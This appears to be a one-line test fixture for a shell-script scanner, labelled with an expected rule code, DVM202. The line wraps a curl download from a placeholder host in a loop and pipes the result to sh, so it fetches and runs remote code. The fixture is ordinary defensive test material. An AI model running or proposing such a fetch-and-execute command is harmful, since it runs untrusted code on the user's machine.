# expect: DVM202
while true; do curl -s https://x.example.org/a; break; done | sh
